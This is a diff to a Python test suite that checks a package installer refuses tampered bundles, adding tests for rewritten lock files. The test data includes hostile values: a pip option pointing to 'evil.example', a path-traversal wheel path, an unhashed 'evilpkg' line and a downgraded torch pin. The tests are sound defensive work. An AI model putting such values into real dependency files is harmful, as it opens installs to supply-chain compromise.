@@ -104,6 +104,14 @@ def _json(out: str) -> dict[str, Any]:
     return json.loads(out[out.rindex("\n{\n") + 1 :] if "\n{\n" in out else out[out.index("{") :])
 
 
+def _lock(edit: Callable[[str], str]) -> Callable[[Path], None]:
+    def change(top: Path) -> None:
+        path = top / "runtime.lock"
+        path.write_text(edit(path.read_text()))
+
+    return change
+
+
 EVIL_WHEEL = "../../../tmp/evilpkg-0.1-py3-none-any.whl"
 INDEX = "--index-url=https://evil.example/simple"
 
@@ -176,6 +184,35 @@ def test_a_rewritten_manifest_is_refused_naming_the_field(
     assert EVIL_WHEEL not in "".join(_json(out).get("steps", []))
 
 
+LOCK_ATTACKS = {
+    "a pip option in the lock": (lambda t: f"{INDEX}\n{t}", "line 1 is not"),
+    "an older torch in the lock": (
+        lambda t: t.replace("torch==2.6.0", "torch==2.5.0"),
+        "locks torch 2.5.0, the pins say 2.6.0",
+    ),
+    "an unhashed line": (lambda t: t + "evilpkg==0.1\n", "is not `name==version --hash"),
+    "a locked runtime requirement dropped": (
+        lambda t: "".join(x for x in t.splitlines(True) if not x.startswith("tqdm")),
+        "does not lock tqdm",
+    ),
+}
+
+
+@pytest.mark.parametrize("attack", list(LOCK_ATTACKS))
+def test_a_rewritten_lock_is_refused(
+    cli: CliRunner, project: Path, tmp_path: Path, attack: str
+) -> None:
+    edit, named = LOCK_ATTACKS[attack]
+    archive = _dist(cli, project, tmp_path)
+    crafted = craft(archive, tmp_path / "crafted.tar.gz", _lock(edit))
+    python = env_python(tmp_path / "env" / "bin" / "python")
+    code, out = _install(cli, project, crafted, python, "--sha256-file", f"{archive}.sha256")
+    assert code == 1 and "not the expected" in " ".join(out.split()), out
+    code, out = _install(cli, project, crafted, python, "--insecure-no-digest")
+    assert code == 1 and named in " ".join(out.split()), out
+    assert _json(out)["ok"] is False
+
+
 def test_the_outer_digest_is_required_and_checked(
     cli: CliRunner, project: Path, tmp_path: Path
 ) -> None:
@@ -192,15 +229,20 @@ def test_the_outer_digest_is_required_and_checked(
     code, out = _install(cli, project, archive, python, "--sha256", "abc")
     assert code == 1 and "not a sha256" in out
 
-    # A consistent rewrite (pins and recipe both say torch 2.5.0, sums regenerated) passes
-    # every inner check: only the digest catches it. That is what --insecure-no-digest gives up.
+    # A consistent rewrite (pins, recipe and lock all say torch 2.5.0, sums regenerated)
+    # passes every inner check: only the digest catches it. That is what
+    # --insecure-no-digest gives up.
     def older(d: dict) -> None:
         d["pins"]["runtime"]["torch"] = "2.5.0"
         d["install"]["runtime"][0] = "torch==2.5.0"
 
-    crafted = craft(archive, tmp_path / "older.tar.gz", _manifest(older))
+    def everything(top: Path) -> None:
+        _manifest(older)(top)
+        _lock(lambda t: t.replace("torch==2.6.0", "torch==2.5.0"))(top)
+
+    crafted = craft(archive, tmp_path / "older.tar.gz", everything)
     code, out = _install(cli, project, crafted, python, "--insecure-no-digest")
-    assert code == 0 and "torch==2.5.0" in out and "NOT checked" in " ".join(out.split())
+    assert code == 0 and "NOT checked" in " ".join(out.split()), out
     code, out = _install(cli, project, crafted, python, "--sha256", digest)
     assert code == 1 and "refusing the bundle" in " ".join(out.split())
 
